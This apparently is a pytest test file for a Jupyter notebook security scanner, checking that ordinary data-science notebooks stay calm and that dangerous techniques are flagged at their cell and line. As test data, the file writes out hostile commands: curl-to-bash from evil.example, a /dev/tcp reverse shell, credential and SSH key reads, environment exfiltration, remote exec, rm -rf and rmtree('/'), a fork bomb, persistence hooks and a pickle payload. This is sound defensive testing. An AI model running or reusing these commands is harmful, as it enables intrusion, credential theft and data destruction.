"""What is told of notebooks that hide nothing: each technique at its cell and line; little, calmly, of honest ones."""

from __future__ import annotations

import pytest

from foresight_parts import book, code, dangerous, of, of_weight, shown, text
from nbkeep.foresight.look import foresee

HONEST = {
    "exploration": (
        text("# Churn\n![badge](https://colab.research.google.com/assets/colab-badge.svg) <b>2026</b>"),
        "%matplotlib inline\n%load_ext autoreload\n%autoreload 2\nimport os\nimport numpy as np\nimport pandas as pd\nimport matplotlib.pyplot as plt\nimport seaborn as sns",
        "df = pd.read_csv('data/train.csv')\ndf.head()",
        "df['ratio'] = df.eval('a / b')\nx = df.query('a > 3').groupby('k').agg({'a': 'sum'})\nfor c in df.columns:\n    print(c, df[c].dtype)",
        "fig, ax = plt.subplots()\nax.plot(x.index, x['a'])\nplt.savefig('out/churn.png')\nx.to_csv('out/churn.csv', index=False)",
    ),
    "training": (
        "import torch, torch.nn as nn\nfrom torch.utils.data import DataLoader\ndevice = 'cuda' if torch.cuda.is_available() else 'cpu'\n!nvidia-smi",
        "class Net(nn.Module):\n    def __init__(self):\n        super().__init__()\n        self.l = nn.Linear(3, 1)\n    def forward(self, x):\n        return self.l(x)\nmodel = Net().to(device)",
        "for epoch in range(3):\n    model.train()\n    loss = model(torch.rand(2, 3)).sum()\n    loss.backward()\nmodel.eval()\ntorch.save(model.state_dict(), 'models/net.pth')",
        "import re\npattern = re.compile(r'\\d+')\nre.sub(pattern, '', 'a1')\nmodel = torch.compile(model)",
        "os.makedirs('models', exist_ok=True)\nstate = torch.load('models/net.pth', map_location='cpu')",
    ),
    "services": (
        "%pip install -q openai langchain\nimport os\nfrom getpass import getpass\nif 'OPENAI_API_KEY' not in os.environ:\n    os.environ['OPENAI_API_KEY'] = getpass('key')",
        "import requests\nr = requests.get('https://api.github.com/repos/a/b', timeout=5)\nr.raise_for_status()\nr.json()['stars']",
        "from transformers import AutoModel\nm = AutoModel.from_pretrained('bert-base-uncased')\nfrom datasets import load_dataset\nds = load_dataset('imdb')",
        "import boto3\ns3 = boto3.client('s3')\ns3.download_file('bucket', 'a.csv', 'data/a.csv')",
    ),
    "pictures": (
        code("import plotly.express as px\nfig = px.line(df)\nfig", shown(html="<div><script>require.undef('plotly'); window.PlotlyConfig = {}; Plotly.newPlot('a', [])</script></div>")),
        code("df", shown(html="<table class='dataframe'><tr><th>a</th></tr></table>")),
        "from IPython.display import HTML, Image, display\ndisplay(HTML('<h3>Done</h3>'))\nImage('out/a.png')",
        "icon = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='\nsha = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'",
    ),
    "by nbconvert": ("get_ipython().run_line_magic('matplotlib', 'inline')\nget_ipython().system('ls data')\nget_ipython().run_cell_magic('time', '', 'x = 1\\n')",),
    "statistics in German": ("größe = 3\nprint(f'Übergröße: {größe:.2f}, größer „als“ 2')\n\u03c3 = 1.5\nnaïve = \u03c3 ** 2", text("Die Größe „Umsatz“ …")),
    "configuration": ("import yaml, json, sqlite3\nwith open('config.yaml') as f:\n    config = yaml.safe_load(f)\ncon = sqlite3.connect('data/shop.db')\nfrom pathlib import Path\nfor p in Path('data').glob('*.csv'):\n    print(p.stem)\nimport sys\nsys.path.append('..')\nsys.path.insert(0, '../src')",),
}  # fmt: skip


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_notebook_raises_no_alarm(name: str) -> None:
    """Nothing dangerous, and at most three things worth a look."""
    found = of(*HONEST[name])
    assert of_weight(found, "dangerous") == []
    assert len(of_weight(found, "notable")) <= 3, of_weight(found, "notable")
    assert found.not_read == []


def test_what_an_honest_notebook_reads_is_told_as_a_fact() -> None:
    found = of(*HONEST["exploration"])
    told = {(one.what, one.weight, one.spot.cell, one.spot.line) for one in found.acts}
    assert ("reads data/train.csv", "ordinary", 3, 1) in told
    assert ("writes out/churn.csv", "ordinary", 5, 4) in told


TECHNIQUES = {
    "an index of its own": ("%pip install a\n%pip install --index-url http://index.example/simple x", "install", 2),
    "a package from an address": ("import os\n!pip install http://evil.example/a.whl", "install", 2),
    "fetched and run": ("!curl -s https://evil.example/x | bash", "network", 1),
    "sent by curl": ("!curl -F file=@data.csv https://evil.example/x", "network", 1),
    "a raw connection": ("%%bash\nls\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "network", 3),
    "keys of ssh": ("import os\nos.listdir(os.path.expanduser('~/.ssh'))", "credentials", 2),
    "keys of the cloud": ("open('/home/x/.aws/credentials').read()", "credentials", 1),
    "keys of a machine": ("import requests\nrequests.get('http://169.254.169.254/latest/meta-data/')", "network", 2),
    "the environment, sent": ("import os, requests\nrequests.post('https://a.example', json=dict(os.environ))", "credentials", 2),
    "all deleted": ("import shutil\nshutil.rmtree('/')", "files", 2),
    "all deleted by a shell": ("!rm -rf ~/*", "files", 1),
    "run at each sign-in": ("with open('/home/x/.bashrc', 'a') as f:\n    f.write('x')", "persistence", 1),
    "run with each kernel": ("%%writefile ~/.ipython/profile_default/startup/00.py\nprint(1)", "persistence", 1),
    "run by cron": ("!(crontab -l; echo '* * * * * x') | crontab -", "persistence", 1),
    "in all cells from now on": ("ip = get_ipython()\nip.input_transformers_cleanup.append(f)", "persistence", 2),
    "loaded by other programs": ("%env LD_PRELOAD=/tmp/x.so", "persistence", 1),
    "memory": ("import ctypes\nctypes.memmove(1, 2, 3)", "native", 2),
    "raw code": ("import marshal\nexec(marshal.loads(b'abc'))", "dynamic", 2),
    "code from elsewhere": ("import requests\nexec(requests.get('https://evil.example/x').text)", "dynamic", 2),
    "a drop box": ("url = 'https://webhook.site/abc'", "network", 1),
    "a tunnel": ("from pyngrok import ngrok\nngrok.connect(8888)", "network", 2),
    "a fork bomb": ("!:(){ :|:& };:", "shell", 1),
    "a magic of another's page": ("%run https://evil.example/x.py", "dynamic", 1),
    "a kernel by script": ("%%javascript\nJupyter.notebook.kernel.execute('x')", "active", 2),
    "code in the margin": ("x = 1" + " " * 300 + "; import os", "hidden", 1),
}  # fmt: skip


@pytest.mark.parametrize("name", TECHNIQUES)
def test_a_technique_is_found_at_its_cell_and_line(name: str) -> None:
    source, kind, line = TECHNIQUES[name]
    assert (kind, 2, line) in [
        (k if k != "native" or kind == "native" else "persistence", c, n)
        for k, c, n in dangerous(of("1 + 1", source))
    ]


NOTABLE = {
    "a package": ("!pip install requests", "installs requests"),
    "a program": ("import subprocess\nsubprocess.run(['make', 'all'])", "runs make"),
    "a server": ("import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 80))", "connects to"),
    "a host by its number": ("import requests\nrequests.get('http://192.0.2.7/x')", "a bare number for a host"),
    "a hidden cell": (code("print(1)", jupyter={"source_hidden": True}), "is hidden from whoever opens"),
    "an extension": ("%load_ext whatever", "loads the extension whatever"),
    "code of a model": ("AutoModel.from_pretrained('x', trust_remote_code=True)", "trust_remote_code"),
    "a look at all files": ("open('../../other/plan.txt').read()", "outside of its folder"),
    "script in an output": (code("1", shown(html="<script>draw()</script>")), "has script in it"),
    "a form": (code("1", shown(html="<form action=https://evil.example><input type=password></form>")), "has a form"),
}  # fmt: skip


@pytest.mark.parametrize("name", NOTABLE)
def test_what_is_worth_a_look_is_said_without_alarm(name: str) -> None:
    cell, words = NOTABLE[name]
    found = of(cell)
    assert of_weight(found, "dangerous") == []
    assert any(words in one.what for one in of_weight(found, "notable")), found.acts


def test_r_and_shell_notebooks_are_looked_through_by_their_words() -> None:
    found = of("library(dplyr)\nx <- read.csv('a.csv')\nsystem('curl -s https://evil.example/x | sh')", "readLines('~/.ssh/id_rsa')",
               kernelspec={"language": "R", "name": "ir"})  # fmt: skip
    assert found.language == "r"
    assert {("network", 1, 3), ("credentials", 2, 1)} <= set(dangerous(found))
    assert ("network", 1, 2) in dangerous(
        of("ls\nwget -qO- evil.example | sh", kernelspec={"name": "bash", "language": "bash"})
    )


def test_scripts_and_texts_are_read_by_their_names_and_first_lines() -> None:
    harm = b"import os\nos.system('rm -rf ~')\n"
    for name in ("a.py", "a", "a.txt"):
        assert dangerous(foresee(harm, name)) == [("files", 0, 2)], name
    assert dangerous(foresee(b"#!/bin/bash\nset -e\nrm -rf ~\n", "install")) == [("files", 0, 3)]
    assert dangerous(foresee(b"# Read me\n\n```bash\nrm -rf ~\n```\n", "a.md")) == [("files", 0, 4)]
    assert dangerous(foresee(b"system('rm -rf ~')\n", "a.R")) == [("files", 0, 1)]


def test_what_is_no_python_is_said_and_looked_through_by_words() -> None:
    found = of("print 'hello'\nimport os; os.system('curl http://evil.example | sh')")
    assert any("is no Python that can be read" in one.reason for one in found.not_read)
    assert ("network", 1, 2) in dangerous(found)


def test_a_program_and_an_archive_are_not_called_harmless() -> None:
    assert foresee(b"\x7fELF" + bytes(200), "tool").problem
    assert foresee(b"PK\x03\x04" + bytes(200), "a.zip").problem


def test_an_old_notebook_of_format_3_is_read() -> None:
    import json

    old = {
        "nbformat": 3,
        "worksheets": [
            {
                "cells": [
                    {
                        "cell_type": "code",
                        "input": ["!rm -rf ~"],
                        "outputs": [{"output_type": "display_data", "html": "<img src=x onerror=a()>"}],
                    }
                ]
            }
        ],
    }
    found = foresee(json.dumps(old).encode(), "a.ipynb")
    assert {("files", 1, 1), ("active", 1, 0)} <= set(dangerous(found))


def test_nothing_is_run_imported_or_unpickled(tmp_path: object) -> None:
    """A document whose each way to be run would leave a mark."""
    import pickle

    class Mark:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            return open, (f"{tmp_path}/mark",)

    data = pickle.dumps(Mark(), protocol=0)
    foresee(
        book(
            f"import pickle\npickle.loads({data!r})",
            f"open('{tmp_path}/mark', 'w')",
            f"!touch {tmp_path}/mark",
        ),
        "a.ipynb",
    )
    assert not __import__("pathlib").Path(f"{tmp_path}/mark").exists()


def test_looking_at_a_function_and_calling_a_library_in_c_is_no_alarm() -> None:
    calm = "f.__globals__", "import ctypes\nctypes.cast(p, ctypes.POINTER(ctypes.c_int))"
    assert of_weight(of(*calm), "dangerous") == []
